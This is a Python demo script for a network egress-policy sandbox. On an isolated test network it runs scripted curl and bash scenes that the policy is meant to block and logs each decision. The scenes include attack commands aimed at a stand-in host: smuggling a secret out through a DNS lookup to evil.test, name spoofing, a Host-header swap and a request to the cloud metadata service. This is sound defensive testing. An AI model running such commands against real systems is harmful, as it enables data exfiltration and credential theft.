"""``make demo``: the main job, shown on the test network, with no internet at all.

Real programs run in a box under a policy. For each, what the program saw stands beside what the
origins saw; at the end, what the gate recorded.
"""

import json
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

from rich.console import Console
from rich.table import Table

from tests.lab import Lab, LabUnavailable, enter, plan

POLICY = f"""\
mode: custom
allowed_domains:
  - allowed.test
  - "*.wild.test"
allowed_cidrs:
  - {plan.CIDR}
"""

CURL = ["curl", "-sS", "--max-time", "10", "--cacert", "ca.pem"]


@dataclass(frozen=True)
class Scene:
    """One program in the box, and the foreign address that must not hear from it, if there is one."""

    title: str
    command: list[str]
    must_stay_silent: str | None = None


SCENES = [
    Scene("An allowed name over HTTPS", [*CURL, "https://allowed.test/hello"]),
    Scene(
        "A name that is not allowed, at its own address",
        [*CURL, "--resolve", f"evil.test:443:{plan.EVIL4}", "https://evil.test/"],
        plan.EVIL4,
    ),
    Scene(
        "A spoof: the allowed name, but at a foreign address. The gate dials what it resolved itself",
        [*CURL, "--connect-to", f"allowed.test:443:{plan.EVIL4}:443", "https://allowed.test/spoofed"],
        plan.EVIL4,
    ),
    Scene(
        "The same over plain HTTP, with the foreign name in the Host header",
        [
            *CURL,
            "--connect-to",
            f"allowed.test:80:{plan.EVIL4}:80",
            "-H",
            "Host: evil.test",
            "http://allowed.test/",
        ],
        plan.EVIL4,
    ),
    Scene(
        "A DNS question that carries a secret out",
        [*CURL, "https://the-secret-is-42.evil.test/"],
        plan.NAMESERVER4,
    ),
    Scene(
        "The cloud's metadata service, behind an allowed name that points to it",
        [*CURL, "--connect-to", f"::{plan.WILDCARD4}:80", "http://metadata.wild.test/latest/meta-data/"],
        plan.METADATA4,
    ),
    Scene(
        "A server that speaks first, allowed by its address",
        ["bash", "-c", f'exec 3<>/dev/tcp/{plan.CIDR4}/{plan.BANNER_PORT}; read -r line <&3; echo "$line"'],
    ),
]


def main() -> None:
    console = Console(highlight=False, markup=False, width=None if sys.stdout.isatty() else 150)
    missing = [program for program in ("curl", "bash") if shutil.which(program) is None]
    if missing:
        sys.exit(f"demo: needs {' and '.join(missing)}: apt install {' '.join(missing)}")
    try:
        enter()
        lab = Lab.start()
    except LabUnavailable as error:
        sys.exit(f"demo: no test network on this machine: {error}")
    try:
        with tempfile.TemporaryDirectory(prefix="box-policy-demo-") as directory:
            play(console, lab, Path(directory))
    finally:
        lab.close()


def play(console: Console, lab: Lab, directory: Path) -> None:
    """Run every scene, then show the records of all of them."""
    workdir = directory / "work"
    workdir.mkdir()
    shutil.copy(lab.ca_pem, workdir / "ca.pem")
    policy, log = directory / "policy.yaml", directory / "decisions.jsonl"
    policy.write_text(POLICY)
    console.print("The policy:", style="bold")
    for line in POLICY.splitlines():
        console.print(f"    {line}")
    console.print()
    lab.dns.set("metadata.wild.test", A=[plan.METADATA4])
    for number, scene in enumerate(SCENES, 1):
        show(console, lab, number, scene, policy, workdir, log)
    console.print("What the gate recorded:", style="bold")
    console.print(table(log))
    console.print("\nWith a network of your own, the same is: box-policy run --allow NAME -- PROGRAM ...")


def show(
    console: Console, lab: Lab, number: int, scene: Scene, policy: Path, workdir: Path, log: Path
) -> None:
    """Run one scene and print what both sides saw."""
    seen_packets, seen_requests = len(lab.packets()), len(lab.requests())
    command = [
        sys.executable,
        "-m",
        "box_policy",
        "run",
        "--quiet",
        "--policy",
        str(policy),
        "--log",
        str(log),
    ]
    command += ["--name-server", lab.nameserver, "--workdir", str(workdir), "--", *scene.command]
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
    if not log.exists():
        sys.exit(f"demo: no box on this machine: {done.stderr.strip()}")
    console.print(f"{number}. {scene.title}", style="bold")
    console.print(f"    $ {' '.join(scene.command)}", style="dim", soft_wrap=True)
    output = " ".join((done.stdout + done.stderr).split())
    console.print(f"    the program saw   {shorten(output)} (exit {done.returncode})", soft_wrap=True)
    console.print(
        f"    the origins saw   {origins(lab, scene, seen_packets, seen_requests)}\n", soft_wrap=True
    )


def origins(lab: Lab, scene: Scene, seen_packets: int, seen_requests: int) -> str:
    """What has left the gate's host since then, in words."""
    packets = lab.packets()[seen_packets:]
    saw = [
        f"{request.method} {request.target} for {request.header('host')} at {request.address}"
        for request in lab.requests()[seen_requests:]
    ]
    dialled = sorted({f"{packet.address}:{packet.port}" for packet in packets if packet.flags == "S"})
    saw += [f"a connection to {address}" for address in dialled]
    if scene.must_stay_silent is not None:
        count = sum(packet.address == scene.must_stay_silent for packet in packets)
        saw.append(f"{count or 'no'} packets at {scene.must_stay_silent}")
    return "; ".join(saw) or "nothing"


def table(log: Path) -> Table:
    """The decisions in a log, alike ones on one row."""
    rows: dict[tuple[str, ...], int] = {}
    for line in log.read_text().splitlines():
        record = json.loads(line)
        if record["event"] == "decision":
            claimed = (
                f"{record['claimed_address']}:{record['claimed_port']}" if "claimed_port" in record else ""
            )
            name, dialled, rule = (record.get(key, "") for key in ("name", "dialled", "rule"))
            row: tuple[str, ...] = (
                record["verdict"],
                record["protocol"],
                name,
                claimed,
                dialled,
                record["reason"],
                rule,
            )
            rows[row] = rows.get(row, 0) + 1
    result = Table(
        "verdict",
        "protocol",
        "name",
        "claimed",
        "dialled",
        "reason",
        "rule",
        "times",
        box=None,
        pad_edge=False,
    )
    for decision, times in rows.items():
        result.add_row(*decision, str(times), style="green" if decision[0] == "allow" else "red")
    return result


def shorten(text: str, size: int = 160) -> str:
    return text if len(text) <= size else text[: size - 3] + "..."


if __name__ == "__main__":
    main()
